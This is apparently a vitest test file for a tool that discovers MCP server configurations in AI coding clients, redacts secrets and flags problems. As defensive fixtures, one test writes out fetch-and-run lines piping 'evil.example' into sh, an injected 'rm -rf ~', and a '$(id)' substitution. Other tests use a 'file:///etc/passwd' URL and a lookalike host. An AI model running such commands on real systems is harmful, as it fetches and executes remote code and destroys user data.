import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type DiscoverOptions, discover } from "./discover.ts";

type Files = Readonly<Record<string, unknown>>;

const absent = (): Error => Object.assign(new Error("no such file"), { code: "ENOENT" });
const from =
  (files: Files) =>
  async (file: string): Promise<string> => {
    if (!Object.hasOwn(files, file)) throw absent();
    const content = files[file];
    if (content instanceof Error) throw content;
    return typeof content === "string" ? content : JSON.stringify(content);
  };
const on = (platform: NodeJS.Platform, files: Files, more: DiscoverOptions = {}) => {
  const windows = platform === "win32";
  return discover({
    platform,
    cwd: windows ? "C:\\work\\app" : "/work/app",
    home: windows ? "C:\\Users\\ada" : platform === "darwin" ? "/Users/ada" : "/home/ada",
    env: {},
    readFile: from(files),
    ...more,
  });
};
const one = { mcpServers: { memory: { command: "npx", args: ["-y", "server-memory"] } } };

describe("discovered locations", () => {
  it.each<readonly [NodeJS.Platform, string, unknown, string, string]>([
    ["linux", "/work/app/.mcp.json", one, "claude-code", "project"],
    ["linux", "/home/ada/.claude.json", one, "claude-code", "user"],
    ["linux", "/home/ada/.config/Claude/claude_desktop_config.json", one, "claude-desktop", "user"],
    [
      "darwin",
      "/Users/ada/Library/Application Support/Claude/claude_desktop_config.json",
      one,
      "claude-desktop",
      "user",
    ],
    [
      "win32",
      "C:\\Users\\ada\\AppData\\Roaming\\Claude\\claude_desktop_config.json",
      one,
      "claude-desktop",
      "user",
    ],
    ["win32", "C:\\Users\\ada\\.claude.json", one, "claude-code", "user"],
    ["linux", "/work/app/.vscode/mcp.json", { servers: one.mcpServers }, "vscode", "project"],
    ["linux", "/home/ada/.config/Code/User/mcp.json", { servers: one.mcpServers }, "vscode", "user"],
    [
      "linux",
      "/home/ada/.config/Code - Insiders/User/mcp.json",
      { servers: one.mcpServers },
      "vscode-insiders",
      "user",
    ],
    [
      "darwin",
      "/Users/ada/Library/Application Support/Code/User/settings.json",
      { mcp: { servers: one.mcpServers } },
      "vscode",
      "user",
    ],
    [
      "win32",
      "C:\\Users\\ada\\AppData\\Roaming\\Code\\User\\settings.json",
      { "mcp.servers": one.mcpServers },
      "vscode",
      "user",
    ],
    ["win32", "C:\\work\\app\\.vscode\\mcp.json", { servers: one.mcpServers }, "vscode", "project"],
    ["linux", "/work/app/.cursor/mcp.json", one, "cursor", "project"],
    ["win32", "C:\\Users\\ada\\.cursor\\mcp.json", one, "cursor", "user"],
    ["darwin", "/Users/ada/.codeium/windsurf/mcp_config.json", one, "windsurf", "user"],
    ["linux", "/home/ada/.config/zed/settings.json", { context_servers: one.mcpServers }, "zed", "user"],
    ["darwin", "/Users/ada/.config/zed/settings.json", { context_servers: one.mcpServers }, "zed", "user"],
    [
      "win32",
      "C:\\Users\\ada\\AppData\\Roaming\\Zed\\settings.json",
      { context_servers: one.mcpServers },
      "zed",
      "user",
    ],
    ["linux", "/home/ada/.gemini/settings.json", one, "gemini", "user"],
    [
      "linux",
      "/home/ada/.codex/config.toml",
      '[mcp_servers.memory]\ncommand = "npx"\nargs = ["-y", "server-memory"]\n',
      "codex",
      "user",
    ],
  ])("on %s include %s", async (platform, file, content, client, scope) => {
    expect(await on(platform, { [file]: content })).toMatchObject([
      {
        id: "memory",
        from: { client, file, scope, name: "memory" },
        config: { id: "memory", transport: "stdio", command: "npx", args: ["-y", "server-memory"] },
        problems: [],
        shown: "npx -y server-memory",
        needsInput: [],
      },
    ]);
  });

  it("follow the variables that move the configuration files", async () => {
    const files = {
      "/config/zed/settings.json": { context_servers: { a: { command: "a" } } },
      "/claude/.claude.json": { mcpServers: { b: { command: "b" } } },
      "/codex/config.toml": '[mcp_servers.c]\ncommand = "c"',
    };
    const env = { XDG_CONFIG_HOME: "/config", CLAUDE_CONFIG_DIR: "/claude", CODEX_HOME: "/codex" };
    expect((await on("linux", files, { env })).map(({ id }) => id)).toEqual(["b", "a", "c"]);
    const roaming = { "D:\\Roaming\\Claude\\claude_desktop_config.json": one };
    expect(await on("win32", roaming, { env: { APPDATA: "D:\\Roaming" } })).toHaveLength(1);
  });

  it("include parent folders up to the root of the repository", async () => {
    const files = {
      "/work/app/src/.mcp.json": { mcpServers: { inner: { command: "a" } } },
      "/work/app/.mcp.json": { mcpServers: { outer: { command: "b" } } },
      "/work/.mcp.json": { mcpServers: { beyond: { command: "c" } } },
    };
    const cwd = "/work/app/src";
    const ids = async (more: Files) =>
      (await on("linux", { ...files, ...more }, { cwd })).map(({ id }) => id);
    expect(await ids({ "/work/app/.git": Object.assign(new Error("a folder"), { code: "EISDIR" }) })).toEqual(
      ["inner", "outer"],
    );
    expect(await ids({})).toEqual(["inner"]);
  });

  it("include project entries of Claude Code with the project as working directory", async () => {
    const file = { projects: { "/work/app": one, "/work/other": { mcpServers: {} }, "/work/odd": 3 } };
    expect(await on("linux", { "/home/ada/.claude.json": file })).toMatchObject([
      { from: { scope: "local", project: "/work/app" }, config: { cwd: "/work/app" } },
    ]);
  });
});

describe("discovered server", () => {
  const cursor = async (entry: unknown) =>
    (await on("linux", { "/home/ada/.cursor/mcp.json": { mcpServers: { x: entry } } }))[0]!;

  it("keeps names of variables and headers but not their values", async () => {
    const found = await on("linux", {
      "/home/ada/.cursor/mcp.json": {
        mcpServers: {
          github: {
            command: "gh-mcp",
            env: { GITHUB_TOKEN: "ghp_realvalue0123456789", LEVEL: 3, HOST: `\${env:GH_HOST:-s3cret}` },
          },
          linear: {
            url: "https://mcp.linear.app/mcp",
            headers: { Authorization: "Bearer lin_realvalue", "X-Team": `Bearer \${input:team}` },
          },
        },
      },
    });
    expect(JSON.stringify(found)).not.toMatch(/realvalue|s3cret/);
    expect(found).toMatchObject([
      {
        config: {
          env: {
            GITHUB_TOKEN: { secret: "GITHUB_TOKEN" },
            LEVEL: { secret: "LEVEL" },
            HOST: `\${env:GH_HOST}`,
          },
        },
        needsInput: ["GH_HOST"],
      },
      {
        config: {
          transport: "http",
          headers: { Authorization: { secret: "LINEAR_AUTHORIZATION" }, "X-Team": `Bearer \${input:team}` },
        },
        needsInput: ["team"],
      },
    ]);
  });

  it("shows the exact command with only likely secrets masked", async () => {
    const args = [
      "-e",
      "API_KEY=abc123",
      "--token",
      "hunter2hunter2",
      "a b",
      "it's",
      "--url=https://u:p@h/x",
      "plain",
    ];
    const { shown, problems } = await cursor({ command: "docker", args });
    expect(shown).toBe(
      "docker -e API_KEY=[redacted] --token [redacted] 'a b' 'it'\\''s' --url=https://[redacted]@h/x plain",
    );
    expect(problems).toEqual([
      '"x" in /home/ada/.cursor/mcp.json has what looks like a secret in its arguments.',
    ]);
    expect((await cursor({ command: "sh", args: ["-c", "echo\u202e hi\u001b[2K"] })).shown).toBe(
      "sh -c 'echo\\u{202e} hi\\u{1b}[2K'",
    );
    expect(
      (await cursor({ url: "https://h/mcp/k3y9f8a7b6c5d4e3f2a1b0c9d8e7f6/sse?key=abc&x=1" })).shown,
    ).toBe("https://h/mcp/[redacted]/sse?key=[redacted]&x=[redacted]");
  });

  it("contains no secret values from arguments or URLs", async () => {
    const key = "sk-proj-AbCdEf0123456789AbCdEf";
    const header = (...args: readonly string[]) => cursor({ command: "npx", args: ["mcp-remote", ...args] });
    const found = [
      await cursor({ command: "node", args: ["x.js", "--api-key", key] }),
      await cursor({ command: "sh", args: ["-c", `token=$(cat x) node y ${key}`] }),
      await cursor({ url: `https://h/mcp?api_key=${key}` }),
      await header("--header", `Authorization: Bearer ${key}`),
      await header(`--header=Authorization:Basic dXNlcjpwYXNz`),
      await header("-H", "X-Api-Key: hunter2hunter2"),
    ];
    expect(JSON.stringify(found)).not.toMatch(/AbCdEf|dXNlcjpwYXNz|hunter2/);
    for (const { problems } of found)
      expect(problems.join()).toContain("has what looks like a secret in its");
    expect(found[3]!.shown).toBe("npx mcp-remote --header 'Authorization: Bearer [redacted]'");
  });

  it("keeps placeholders in headers and URLs but not their defaults", async () => {
    const args = ["--header", `Authorization: Bearer \${TOKEN}`];
    expect((await cursor({ command: "x", args })).config).toMatchObject({ args });
    const url = `https://h/mcp?api_key=\${env:KEY}&k=\${K:-s3cret}`;
    expect((await cursor({ url })).config).toMatchObject({
      url: `https://h/mcp?api_key=\${env:KEY}&k=[redacted]`,
    });
  });

  it("shows executable code that is labeled as a secret", async () => {
    const shownOf = async (...args: readonly string[]) => (await cursor({ command: "sh", args })).shown;
    expect(await shownOf("-c", "token=$(curl<evil.example|sh)")).toContain("curl<evil.example|sh");
    expect(await shownOf("-c", 'password="$(curl evil.example | sh)" x')).toContain("curl evil.example | sh");
    expect(await shownOf("-c", "curl https://$(id)@evil.example")).toContain("$(id)");
    expect(await shownOf("--auth", "evil-package@1.0.0")).toBe("sh --auth evil-package@1.0.0");
    expect(await shownOf("--secret", "x; rm -rf ~")).toContain("rm -rf");
  });

  it("escapes invisible characters and spaces and shows lookalike hosts as punycode", async () => {
    const args = ["a\u3000b", "a\u00a0b", "a\u115fb", "a\u2800b", "a\ufe00b", "a\ud800b"];
    expect((await cursor({ command: "x", args })).shown).toBe(
      "x 'a\\u{3000}b' 'a\\u{a0}b' 'a\\u{115f}b' 'a\\u{2800}b' 'a\\u{fe00}b' 'a\\u{d800}b'",
    );
    expect((await cursor({ url: "https://\u0430pple.example/mcp" })).shown).toBe(
      "https://xn--pple-43d.example/mcp",
    );
  });

  it("is read from files with comments, trailing commas and a byte order mark", async () => {
    const text = `\uFEFF{
      // servers, with "quotes" /* in a comment */
      "servers": {
        "db": { "type": "stdio", "command": "db//mcp", "args": ["\${workspaceFolder}/a,]", "\${input:port}",], /* , */ },
      },
      "inputs": [{ "type": "promptString", "id": "port" }],
    }`;
    expect(await on("linux", { "/work/app/.vscode/mcp.json": text })).toMatchObject([
      {
        config: { command: "db//mcp", args: [`\${workspaceFolder}/a,]`, `\${input:port}`] },
        needsInput: ["port"],
      },
    ]);
  });

  it("is read from the URL fields of each client", async () => {
    const found = await on("linux", {
      "/home/ada/.codeium/windsurf/mcp_config.json": { mcpServers: { a: { serverUrl: "https://h/mcp" } } },
      "/home/ada/.gemini/settings.json": {
        mcpServers: { b: { url: "https://h/sse" }, c: { httpUrl: "https://h/mcp" } },
      },
      "/home/ada/.claude.json": {
        mcpServers: { d: { type: "sse", url: "https://h/sse" }, e: { type: "ws", url: "wss://h" } },
      },
    });
    expect(found.map(({ id, config }) => [id, config?.transport])).toEqual([
      ["d", "sse"],
      ["e", "websocket"],
      ["a", "http"],
      ["b", "sse"],
      ["c", "http"],
    ]);
  });

  it("is read from the formats of Zed, Codex and Gemini", async () => {
    const found = await on("linux", {
      "/home/ada/.config/zed/settings.json": {
        context_servers: {
          old: { command: { path: "/bin/old", args: ["a"], env: { K: "v" } } },
          extension: { settings: {} },
          off: { command: "off", enabled: false },
        },
      },
      "/home/ada/.gemini/settings.json": { mcpServers: { g: { command: "g", env: { KEY: "$MY_KEY" } } } },
      "/home/ada/.codex/config.toml":
        '[mcp_servers.c]\nurl = "https://h/mcp" # here\nbearer_token_env_var = "C_TOKEN"\nhttp_headers = { "X-Team" = "red" }\n',
    });
    expect(found.map(({ config }) => config ?? "none")).toMatchObject([
      { command: "/bin/old", args: ["a"], env: { K: { secret: "K" } } },
      "none",
      { command: "off", disabled: true },
      { env: { KEY: "$MY_KEY" } },
      { headers: { Authorization: `Bearer \${C_TOKEN}`, "X-Team": { secret: "C_X_TEAM" } } },
    ]);
    expect(found.map(({ needsInput }) => needsInput)).toEqual([[], [], [], ["MY_KEY"], ["C_TOKEN"]]);
    expect(found[1]!.problems[0]).toContain("extension of Zed");
  });

  it("has a unique id that is valid as a tool prefix", async () => {
    const names = [
      "git hub",
      "git/hub",
      "GIT-HUB",
      "__proto__",
      "constructor",
      "日本",
      "a__b",
      "x".repeat(99),
    ];
    const mcpServers = JSON.parse(`{${names.map((name) => `${JSON.stringify(name)}:{"command":"c"}`)}}`);
    const found = await on("linux", { "/home/ada/.cursor/mcp.json": { mcpServers } });
    expect(found.map(({ id }) => id)).toEqual([
      "git-hub",
      "git-hub-2",
      "GIT-HUB-3",
      "proto",
      "constructor-server",
      "server",
      "a-b",
      "x".repeat(24),
    ]);
    expect(found.map(({ from }) => from.name)).toEqual(names);
  });

  it.each([
    [3, "is not an object"],
    [{}, "has neither a `command` nor a `url`"],
    [{ command: 3 }, "has a `command` that is not a string"],
    [{ command: "a", args: "b" }, "has `args` that are not a list of strings"],
    [{ command: "a", env: [] }, "has `env` that is not an object"],
    [{ url: "file:///etc/passwd" }, "has a `url` that does not begin with http:// or https://"],
    [{ url: "javascript:alert(1)" }, "has a `url` that does not begin"],
    [{ command: "a", envFile: ".env" }, "`envFile`, which is not supported"],
    [{ command: "a", sandboxEnabled: true }, "runs in a sandbox in that program"],
  ])("reports the problem of %j", async (entry, words) => {
    expect((await cursor(entry)).problems.join()).toContain(words);
  });

  it("uses a local sandbox when the client runs it in one and a sandbox is available", async () => {
    const homes = { linux: "/home/ada", darwin: "/Users/ada" };
    const content = { mcpServers: { notes: { command: "notes", sandboxEnabled: true } } };
    const onSystem = async (platform: "linux" | "darwin") =>
      (await on(platform, { [`${homes[platform]}/.cursor/mcp.json`]: content }))[0]!;
    const [linux, mac] = [await onSystem("linux"), await onSystem("darwin")];
    expect([linux.config, mac.config]).toMatchObject([{ sandbox: "bubblewrap" }, { command: "notes" }]);
    expect(mac.config).not.toHaveProperty("sandbox");
    expect([linux, mac].map(({ problems }) => problems.join())).toEqual([
      expect.stringContaining("in bubblewrap here, without network and files"),
      expect.stringContaining("would run without one here"),
    ]);
  });
});

describe("configuration file that cannot be read", () => {
  const file = "/home/ada/.cursor/mcp.json";
  const problems = async (content: unknown) =>
    (await on("linux", { [file]: content })).flatMap((each) => each.problems);

  it("is listed with the position of the error but without its content", async () => {
    expect(await problems('{\n  "mcpServers": {\n    "a": { "env": { "K": sk-secret } }\n')).toEqual([
      `${file}:3:26 is not JSON from this position.`,
    ]);
    expect(await problems("")).toEqual([`${file}:1:1 is not JSON from this position.`]);
    expect(await problems("[]")).toEqual([`${file} does not contain an object.`]);
    expect(await problems({ mcpServers: [] })).toEqual([
      `${file} has something at /mcpServers that is not an object of servers.`,
    ]);
    expect(await problems({ theme: "dark" })).toEqual([]);
  });

  it("does not prevent the others from being listed", async () => {
    const found = await on("linux", {
      [file]: Object.assign(new Error("denied"), { code: "EACCES" }),
      "/home/ada/.gemini/settings.json": one,
      "/home/ada/.codeium/windsurf/mcp_config.json": `{"mcpServers":{}}${" ".repeat(1_048_576)}`,
      "/home/ada/.codex/config.toml": "[mcp_servers.x]\ncommand = npx\n",
    });
    expect(found.map(({ problems }) => problems)).toEqual([
      [`${file} cannot be read (EACCES).`],
      ["/home/ada/.codeium/windsurf/mcp_config.json is larger than 1 MiB, so it was not read."],
      [],
      ["/home/ada/.codex/config.toml:2:11 is not TOML from this position."],
    ]);
  });

  it("is rejected by size and type on disk", async () => {
    const home = mkdtempSync(join(tmpdir(), "haft-discover-"));
    try {
      mkdirSync(join(home, ".cursor"));
      mkdirSync(join(home, ".gemini", "settings.json"), { recursive: true });
      writeFileSync(join(home, ".cursor", "mcp.json"), " ".repeat(1_048_577));
      writeFileSync(join(home, ".mcp.json"), JSON.stringify(one));
      const found = await discover({ home, cwd: home, env: {}, platform: "linux" });
      expect(found.map(({ id, problems }) => [id, ...problems])).toEqual([
        ["memory"],
        ["cursor", `${join(home, ".cursor", "mcp.json")} is larger than 1 MiB, so it was not read.`],
        ["gemini", `${join(home, ".gemini", "settings.json")} cannot be read (EISDIR).`],
      ]);
    } finally {
      rmSync(home, { recursive: true });
    }
  });
});

it("discover does not throw for any file content", async () => {
  const value = fc.oneof(
    fc.jsonValue(),
    fc.constantFrom(`\${input:a}`, "$X", "https://h", ["a"], { path: "p" }),
  );
  const entry = fc.dictionary(
    fc.constantFrom(
      "command",
      "args",
      "env",
      "url",
      "headers",
      "type",
      "cwd",
      "httpUrl",
      "env_http_headers",
      "disabled",
    ),
    value,
  );
  const servers = fc.dictionary(fc.string(), fc.oneof(entry, fc.jsonValue()));
  const document = fc.oneof(
    fc.record({
      mcpServers: servers,
      projects: fc.dictionary(fc.string(), fc.record({ mcpServers: servers })),
    }),
    fc.jsonValue(),
    fc.string(),
  );
  await fc.assert(
    fc.asyncProperty(document, fc.string(), async (json, text) => {
      const found = await on("linux", {
        "/home/ada/.claude.json": json,
        "/home/ada/.gemini/settings.json": json,
        "/work/app/.mcp.json": text,
        "/home/ada/.codex/config.toml": text,
      });
      const ids = found.map(({ id }) => id.toLowerCase());
      expect(new Set(ids).size).toBe(ids.length);
      for (const { id, config, problems } of found) {
        expect(id).toMatch(/^[A-Za-z0-9][A-Za-z0-9_-]{0,31}$/);
        if (config === undefined) expect(problems).not.toEqual([]);
      }
    }),
    { numRuns: 200 },
  );
});
